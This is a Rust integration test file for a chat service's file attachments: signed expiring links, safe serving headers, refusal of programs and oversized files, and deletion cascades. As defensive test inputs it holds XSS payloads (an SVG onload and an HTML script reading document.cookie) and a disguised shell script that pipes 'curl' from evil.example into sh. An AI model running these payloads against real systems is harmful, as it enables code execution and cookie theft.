//! Attachments (issue 15): files on messages from agents and visitors, stored in R2, linked
//! by signed URLs that expire, served so that they never run as pages of the edge, and
//! deleted with what holds them.

use std::time::{SystemTime, UNIX_EPOCH};

use hmac::{Hmac, Mac};
use nimchat_tests::cable::{agent_cable, visitor_cable};
use nimchat_tests::{png, spawn_app, Multipart, Reply, TestAccount, TestApp, TestVisitor};
use serde_json::{json, Value};
use sha2::Sha256;

const PDF: &[u8] = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";

/// A web-widget inbox, a visitor and their conversation.
fn chat<'a>(app: &'a TestApp, account: &TestAccount) -> (TestVisitor<'a>, i64) {
    let identifier = account.widget_inbox_identifier(app, "Files");
    let visitor = app.visitor(&identifier, json!({"name": "Ines"}));
    let conversation = visitor.start_conversation();
    (visitor, conversation)
}

fn visitor_posts(visitor: &TestVisitor, conversation: i64, form: Multipart) -> Reply {
    let path = format!("/conversations/{conversation}/messages");
    visitor.send("POST", &path, form.finish(), &Multipart::content_type())
}

fn agent_messages(app: &TestApp, account: &TestAccount, conversation: i64) -> Vec<Value> {
    let listed = account.admin_call(app, "GET", &format!("/conversations/{conversation}/messages"), None);
    assert_eq!(listed.status, 200, "{}", listed.text);
    listed.body["payload"].as_array().unwrap().clone()
}

fn link(message: &Value, index: usize) -> String {
    message["attachments"][index]["data_url"]
        .as_str()
        .unwrap_or_else(|| panic!("no data_url in {message}"))
        .to_string()
}

fn header<'a>(reply: &'a Reply, name: &str) -> &'a str {
    reply.header(name).unwrap_or_else(|| panic!("no {name} header"))
}

/// What every file answer carries, whatever the file.
fn assert_served_safely(reply: &Reply) {
    assert_eq!(header(reply, "x-content-type-options"), "nosniff");
    assert!(header(reply, "content-security-policy").contains("default-src 'none'"));
}

#[test]
fn an_agents_image_and_a_visitors_pdf_reach_both_sides_byte_identical() {
    let app = spawn_app();
    let account = app.create_account();
    let (visitor, conversation) = chat(app, &account);
    let mut agents = agent_cable(app, &account, &account.admin);
    let mut visitors = visitor_cable(app, &visitor, true);
    let image = png(40, 30);

    let sent = account.reply_with_files(
        app,
        conversation,
        Multipart::new()
            .text("content", "Here is the map")
            .file("attachments[]", "map.png", "image/png", &image),
    );
    assert_eq!(sent.status, 200, "{}", sent.text);
    let attachment = &sent.body["attachments"][0];
    assert_eq!(attachment["file_type"], "image");
    assert_eq!(attachment["extension"], "png");
    assert_eq!(attachment["file_name"], "map.png");
    assert_eq!(attachment["file_size"], image.len());
    assert_eq!(
        (attachment["width"].as_i64(), attachment["height"].as_i64()),
        (Some(40), Some(30))
    );
    assert_eq!(attachment["message_id"], sent.body["id"]);
    assert_eq!(attachment["account_id"], account.id);
    assert_eq!(attachment["thumb_url"], attachment["data_url"]);
    assert!(link(&sent.body, 0).starts_with(&format!("{}/files/", app.base_url)));

    // A visitor's file alone, no text.
    let pdf = visitor_posts(
        &visitor,
        conversation,
        Multipart::new().file("attachments[]", "invoice.pdf", "application/pdf", PDF),
    );
    assert_eq!(pdf.status, 200, "{}", pdf.text);
    assert_eq!(pdf.body["content"], Value::Null);
    assert_eq!(pdf.body["attachments"][0]["file_type"], "file");
    assert_eq!(pdf.body["attachments"][0]["extension"], "pdf");
    assert_eq!(pdf.body["attachments"][0]["thumb_url"], "");

    // Both arrive live with their links.
    let live = agents.wait_for("message.created", |data| data["id"] == pdf.body["id"]);
    assert_eq!(live["attachments"][0]["file_name"], "invoice.pdf");
    let live = visitors.wait_for("message.created", |data| data["id"] == sent.body["id"]);
    assert_eq!(live["attachments"][0]["file_type"], "image");

    // Listed by both sides, with links that download the very bytes.
    let listed_by_agent = agent_messages(app, &account, conversation);
    let listed_by_visitor = visitor.messages(conversation);
    for listed in [&listed_by_agent, &listed_by_visitor] {
        let find = |id: &Value| listed.iter().find(|message| &message["id"] == id).unwrap().clone();
        let png_reply = app.fetch(&link(&find(&sent.body["id"]), 0), &[]);
        assert_eq!(png_reply.status, 200, "{}", png_reply.text);
        assert_eq!(png_reply.bytes, image);
        assert_eq!(png_reply.content_type, "image/png");
        assert!(header(&png_reply, "content-disposition").starts_with("inline"));
        assert_served_safely(&png_reply);
        let pdf_reply = app.fetch(&link(&find(&pdf.body["id"]), 0), &[]);
        assert_eq!(pdf_reply.status, 200, "{}", pdf_reply.text);
        assert_eq!(pdf_reply.bytes, PDF);
        assert_eq!(pdf_reply.content_type, "application/pdf");
        assert!(header(&pdf_reply, "content-disposition").starts_with("attachment; filename=\"invoice.pdf\""));
        assert_served_safely(&pdf_reply);
    }

    // Media can seek: one range of bytes.
    let part = app.fetch(&link(&pdf.body, 0), &[("Range", "bytes=0-4")]);
    assert_eq!(part.status, 206, "{}", part.text);
    assert_eq!(part.bytes, b"%PDF-");
    assert_eq!(header(&part, "content-range"), format!("bytes 0-4/{}", PDF.len()));
    let past_the_end = app.fetch(&link(&pdf.body, 0), &[("Range", "bytes=5000-")]);
    assert_eq!(past_the_end.status, 416);
}

/// A link to the same file with another expiry, signed as the edge signs.
fn signed(app: &TestApp, data_url: &str, expires: i64) -> String {
    let (address, _) = data_url.split_once('?').unwrap();
    let key = address.split_once("/files/").unwrap().1;
    let mut mac = Hmac::<Sha256>::new_from_slice(app.file_url_secret.as_bytes()).unwrap();
    mac.update(format!("{expires}\n{key}").as_bytes());
    let signature: String = mac
        .finalize()
        .into_bytes()
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    format!("{address}?expires={expires}&signature={signature}")
}

#[test]
fn links_that_expired_or_were_altered_open_nothing() {
    let app = spawn_app();
    let account = app.create_account();
    let (visitor, conversation) = chat(app, &account);
    let sent = visitor_posts(
        &visitor,
        conversation,
        Multipart::new()
            .text("content", "my receipt")
            .file("attachments[]", "receipt.pdf", "application/pdf", PDF),
    );
    assert_eq!(sent.status, 200, "{}", sent.text);
    let data_url = link(&sent.body, 0);
    assert_eq!(app.fetch(&data_url, &[]).status, 200);

    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
    assert_eq!(
        app.fetch(&signed(app, &data_url, now + 60), &[]).status,
        200,
        "signed as the edge signs"
    );
    let expired = app.fetch(&signed(app, &data_url, now - 1), &[]);
    assert_eq!(expired.status, 403, "{}", expired.text);

    let (address, query) = data_url.split_once('?').unwrap();
    let signature = query.split("signature=").nth(1).unwrap();
    let flipped = format!(
        "{}{}",
        &signature[..signature.len() - 1],
        if signature.ends_with('0') { '1' } else { '0' }
    );
    let expires = query.split('&').next().unwrap();
    let later = expires.strip_prefix("expires=").unwrap().parse::<i64>().unwrap() + 3600;
    let other_name = address.replace("receipt.pdf", "receipt2.pdf");
    for altered in [
        format!("{address}?{expires}&signature={flipped}"),
        format!("{address}?expires={later}&signature={signature}"),
        format!("{other_name}?{query}"),
        format!("{address}?{expires}"),
        address.to_string(),
    ] {
        let reply = app.fetch(&altered, &[]);
        assert_eq!(reply.status, 403, "{altered}: {}", reply.text);
        assert!(reply.bytes.len() < 200 && !reply.text.contains("PDF"));
    }
}

#[test]
fn svg_and_html_are_never_served_inline() {
    let app = spawn_app();
    let account = app.create_account();
    let (visitor, conversation) = chat(app, &account);
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><circle r="9"/></svg>"#;
    let html = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>";
    let sent = visitor_posts(
        &visitor,
        conversation,
        Multipart::new()
            .file("attachments[]", "logo.svg", "image/svg+xml", svg)
            .file("attachments[]", "page.html", "text/html", html),
    );
    assert_eq!(sent.status, 200, "{}", sent.text);
    for (index, content_type) in [(0, "image/svg+xml"), (1, "text/html")] {
        assert_eq!(sent.body["attachments"][index]["file_type"], "file", "{content_type}");
        let reply = app.fetch(&link(&sent.body, index), &[]);
        assert_eq!(reply.status, 200);
        assert_eq!(reply.content_type, content_type);
        assert!(
            header(&reply, "content-disposition").starts_with("attachment;"),
            "{content_type} must download"
        );
        assert!(header(&reply, "content-security-policy").contains("sandbox"));
        assert_served_safely(&reply);
    }
}

#[test]
fn a_file_named_png_holding_a_script_is_stored_as_what_it_is() {
    let app = spawn_app();
    let account = app.create_account();
    let (_, conversation) = chat(app, &account);
    let script = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n";
    let sent = account.reply_with_files(
        app,
        conversation,
        Multipart::new().file("attachments[]", "photo.png", "image/png", script),
    );
    assert_eq!(sent.status, 200, "{}", sent.text);
    let attachment = &sent.body["attachments"][0];
    assert_eq!(attachment["file_type"], "file");
    assert_eq!(attachment["extension"], "txt");
    assert_eq!(attachment["file_name"], "photo.png.txt");
    let reply = app.fetch(&link(&sent.body, 0), &[]);
    assert_eq!(reply.content_type, "text/plain");
    assert!(header(&reply, "content-disposition").starts_with("attachment;"));
    assert_eq!(reply.bytes, script);
}

#[test]
fn files_over_the_limits_and_programs_are_refused_and_nothing_is_stored() {
    let app = spawn_app();
    let account = app.create_account();
    let (visitor, conversation) = chat(app, &account);
    let before = agent_messages(app, &account, conversation).len();
    let mut too_large = PDF.to_vec();
    too_large.resize(41 << 20, b' ');
    let mut program = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec();
    program.resize(4096, 0);
    let sixteen = (0..16).fold(Multipart::new(), |form, index| {
        form.file("attachments[]", &format!("note{index}.txt"), "text/plain", b"hello")
    });
    let cases = [
        (
            "a 41 MB file",
            Multipart::new()
                .text("content", "big")
                .file("attachments[]", "scan.pdf", "application/pdf", &too_large),
        ),
        (
            "a program",
            Multipart::new().file("attachments[]", "setup.exe", "application/octet-stream", &program),
        ),
        (
            "a program beside a good file",
            Multipart::new()
                .file("attachments[]", "ok.pdf", "application/pdf", PDF)
                .file("attachments[]", "invoice.pdf", "application/pdf", &program),
        ),
        ("sixteen files", sixteen),
        (
            "an empty file",
            Multipart::new().file("attachments[]", "empty.txt", "text/plain", b""),
        ),
    ];
    for (what, form) in cases {
        let reply = visitor_posts(&visitor, conversation, form);
        assert_eq!(reply.status, 422, "{what}: {}", reply.text);
        assert_eq!(reply.body["attributes"], json!(["attachments"]), "{what}");
    }
    let program_by_agent = account.reply_with_files(
        app,
        conversation,
        Multipart::new().file("attachments[]", "tool.exe", "application/x-msdownload", &program),
    );
    assert_eq!(program_by_agent.status, 422, "{}", program_by_agent.text);
    // Files are checked before any is written: no message, so no file either.
    assert_eq!(agent_messages(app, &account, conversation).len(), before);
}

#[test]
fn deleting_a_message_a_conversation_or_an_account_deletes_its_files() {
    let app = spawn_app();
    let account = app.create_account();
    let (visitor, conversation) = chat(app, &account);
    let send = |conversation: i64, name: &str| {
        let sent = visitor_posts(
            &visitor,
            conversation,
            Multipart::new().file("attachments[]", name, "application/pdf", PDF),
        );
        assert_eq!(sent.status, 200, "{}", sent.text);
        sent.body
    };

    // A message.
    let message = send(conversation, "a.pdf");
    let data_url = link(&message, 0);
    let deleted = account.admin_call(
        app,
        "DELETE",
        &format!("/conversations/{conversation}/messages/{}", message["id"]),
        None,
    );
    assert_eq!(deleted.status, 200, "{}", deleted.text);
    assert!(deleted.body.get("attachments").is_none(), "{}", deleted.text);
    assert_eq!(app.fetch(&data_url, &[]).status, 404, "the object left R2");

    // A conversation: administrators only.
    let second = visitor.start_conversation();
    let data_url = link(&send(second, "b.pdf"), 0);
    let path = format!("/conversations/{second}");
    let by_agent = app.call("DELETE", &account.path(&path), account.agent.auth(), None);
    assert_eq!(by_agent.status, 403, "{}", by_agent.text);
    assert_eq!(app.fetch(&data_url, &[]).status, 200);
    let by_admin = account.admin_call(app, "DELETE", &path, None);
    assert_eq!(by_admin.status, 200, "{}", by_admin.text);
    assert_eq!(account.admin_call(app, "GET", &path, None).status, 404);
    assert_eq!(app.fetch(&data_url, &[]).status, 404);

    // The account.
    let data_url = link(&send(conversation, "c.pdf"), 0);
    assert_eq!(app.fetch(&data_url, &[]).status, 200);
    let gone = app.platform("DELETE", &format!("/accounts/{}", account.id), None);
    assert_eq!(gone.status, 200, "{}", gone.text);
    assert_eq!(app.fetch(&data_url, &[]).status, 404);
}

#[test]
fn messages_without_files_carry_no_attachments_key() {
    let app = spawn_app();
    let account = app.create_account();
    let (visitor, conversation) = chat(app, &account);
    let said = visitor.say(conversation, "just text");
    assert_eq!(said.status, 200);
    assert!(said.body.get("attachments").is_none(), "{}", said.text);
    let blank = visitor_posts(&visitor, conversation, Multipart::new().text("content", " "));
    assert_eq!(blank.status, 422, "no text and no file: {}", blank.text);
    assert_eq!(blank.body["attributes"], json!(["content"]));
}
